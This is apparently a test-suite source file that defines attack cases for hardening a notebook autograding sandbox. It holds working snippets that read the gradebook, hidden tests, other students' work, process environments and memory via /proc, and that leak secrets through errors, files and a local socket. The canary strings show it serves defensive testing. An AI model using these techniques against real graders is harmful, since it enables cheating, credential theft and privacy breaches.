"""Reading what is not the student's: solutions, tests, grades, others' work, the environment, frames."""

from .corpus import Family

attack = ATTACKS = Family("reading")
SAY = """
import re
def say(data):
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else str(data)
    print(sorted(set(re.findall("canary-[a-z]+-[0-9a-f]+", text))))
"""


def reads(source: str) -> dict[str, str]:
    """Return a solution cell that has `say`, which prints the secrets that it finds in a text."""
    return {"double": SAY + source}


@attack("secret")
def solution_in_the_course_folder():
    """Read the instructor's notebook."""
    return reads("say(open('COURSE_ROOT/source/toy_guarded/toy_guarded.ipynb').read())")


@attack("secret")
def tests_in_the_gradebook():
    """Read the gradebook's file, which holds hidden tests and everybody's grades."""
    return reads("say(open('COURSE_ROOT/gradebook.db', 'rb').read())")


@attack("secret")
def grades_by_sql():
    """Query the gradebook as a database."""
    return reads("""
import sqlite3
connection = sqlite3.connect("file:COURSE_ROOT/gradebook.db?mode=ro", uri=True)
say(connection.execute("SELECT source FROM source_cell").fetchall())
""")


@attack("secret")
def work_of_another_student():
    """Read the neighbour's submission."""
    return reads("say(open('COURSE_ROOT/submitted/z_neighbour/toy_guarded/toy_guarded.ipynb').read())")


@attack("secret")
def graded_work_of_another_student():
    """Read what the grading wrote of an earlier student: the executed notebook, with hidden tests."""
    return reads("say(open('COURSE_ROOT/autograded/a_witness/toy_guarded/toy_guarded.ipynb').read())")


@attack("secret")
def own_environment():
    """Print the environment: a grader's shell holds tokens."""
    return reads("import os\nsay(dict(os.environ))")


@attack("secret")
def environments_of_other_processes():
    """Read the environment of every process that can be seen, the grader's among them."""
    return reads("""
import pathlib
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        say(path.read_bytes())
    except OSError:
        pass
""")


@attack("secret")
def course_through_the_graders_folder():
    """Find the course without knowing its place: through the working folders of visible processes."""
    return reads("""
import pathlib
for path in pathlib.Path("/proc").glob("[0-9]*/cwd"):
    try:
        say((path / "gradebook.db").read_bytes())
    except OSError:
        pass
""")


@attack("secret")
def course_through_open_descriptors():
    """Read through descriptors that the process inherited or that others hold open."""
    return reads("""
import pathlib
for path in pathlib.Path("/proc").glob("[0-9]*/fd/*"):
    try:
        if str(path.resolve()).endswith("gradebook.db"):
            say(path.read_bytes())
    except OSError:
        pass
""")


@attack("secret")
def course_through_a_link():
    """Put a link to the gradebook into the own folder and read that."""
    return reads("""
import os
os.symlink("COURSE_ROOT/gradebook.db", "innocent.txt")
say(open("innocent.txt", "rb").read())
""")


@attack("secret")
def course_through_another_program():
    """Let another program read: what is patched into Python does not bind `cat`."""
    return reads("""
import subprocess
say(subprocess.run(["cat", "COURSE_ROOT/gradebook.db"], capture_output=True).stdout)
""")


@attack("secret", honest=6)
def hidden_test_in_the_shells_history():
    """While a hidden test runs, remember the shell's input; print it in a visible test's output."""
    return {
        **reads("""
seen = []
def double(number):
    seen.extend(get_ipython().user_ns["In"])
    return 2 * number
"""),
        "norm": "def norm(vector):\n    say(seen)\n    return 0.0",
    }


@attack("secret", honest=6)
def hidden_test_in_frames():
    """Look up through the frames of the callers for the source of the cell that calls."""
    return {
        **reads("""
import linecache
import sys
seen = []
def double(number):
    frame = sys._getframe(1)
    while frame:
        seen.append(linecache.getlines(frame.f_code.co_filename))
        frame = frame.f_back
    return 2 * number
"""),
        "norm": "def norm(vector):\n    say(seen)\n    return 0.0",
    }


@attack("secret", honest=6)
def hidden_test_in_the_heap():
    """Search the heap for strings of a later test, from within an earlier one."""
    return {
        **reads("""
import gc
seen = []
def double(number):
    for thing in gc.get_objects():
        try:
            seen.extend(value for value in thing.values() if type(value) is str and "canary" in value)
        except Exception:
            pass
    return 2 * number
"""),
        "norm": "def norm(vector):\n    say(seen)\n    return 0.0",
    }


REMEMBER = """
seen = []
def double(number):
    seen.append(number)
    return 2 * number
"""


@attack("secret", honest=6)
def hidden_arguments_in_a_later_error():
    """Remember what a hidden test calls with; tell it in the error that a later, visible test shows."""
    return {**reads(REMEMBER), "norm": "def norm(vector):\n    raise ValueError(str(seen))"}


@attack("secret", honest=6)
def hidden_arguments_as_a_later_value():
    """The same as a wrong value, which the visible test says it got."""
    return {**reads(REMEMBER), "norm": "def norm(vector):\n    return str(seen)"}


@attack("secret", honest=6)
def hidden_arguments_in_a_later_cell():
    """Print them from the next cell that is the student's own, whose output is on the page."""
    return {**reads(REMEMBER), "account": "say(seen)"}


@attack("secret", honest=6)
def hidden_arguments_in_a_file():
    """Leave them in files for another process, wherever one can be written."""
    return {
        **reads("""
import pathlib
places = [pathlib.Path(place, "ATTACK_NAME") for place in (".", "/dev/shm", "/tmp", "OUTSIDE")]
def double(number):
    for place in places:
        try:
            place.write_text(f"{number}")
        except OSError:
            pass
    return 2 * number
"""),
        "account": "for place in places:\n    say(place.read_bytes() if place.exists() else '')",
    }


@attack("points")
def expected_value_from_the_tests_source():
    """Compute nothing: find the expected number in the text of the test that calls."""
    return {
        "double": r"""
import re
def double(number):
    source = get_ipython().user_ns["In"][-1]
    return float(re.search(r"double\([^)]*\), ([-0-9.]+)", source)[1])
"""
    }


@attack("points")
def expected_value_from_the_callers_frame():
    """The same through the caller's constants: the number stands in its code."""
    return {
        "double": """
import sys
def double(number):
    constants = [c for c in sys._getframe(1).f_code.co_consts if type(c) is float]
    return -constants[-1] if number < 0 else constants[-1]
"""
    }


@attack("network")
def secrets_sent_to_a_server():
    """Connect to a server of the attacker's; here it listens on the grader's own machine."""
    return {
        "double": "import socket\n"
        "socket.create_connection(('127.0.0.1', PORT), timeout=5).sendall(b'ATTACK_NAME\\n')"
    }


@attack("network")
def secrets_sent_by_a_child():
    """The same from a program that knows nothing of what the kernel forbids itself."""
    return {
        "double": """
import subprocess
import sys
source = "import socket; socket.create_connection(('127.0.0.1', PORT), 5).sendall(b'ATTACK_NAME\\\\n')"
subprocess.run([sys.executable, "-c", source])
"""
    }


@attack("secret")
def memory_of_the_own_process():
    """Search the memory that the process got from the one it is forked from."""
    return {
        "double": r"""
import re
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        if "r" in line.split()[1] and end - start < 2**26:
            try:
                memory.seek(start)
                for found in set(re.findall(rb"canary-[a-z]+-[0-9a-f]{12}", memory.read(end - start))):
                    print(found)
            except (OSError, ValueError, OverflowError):
                pass
"""
    }


@attack("resources", allowed=0)
def names_told_by_the_system():
    """Have the system tell what is made in a folder that cannot be read, such as those of other kernels."""
    return {
        "double": """
import ctypes
libc = ctypes.CDLL(None)
print("TOOK", int(libc.inotify_add_watch(libc.inotify_init1(0), b"OUTSIDE", 0x100) > 0))
"""
    }
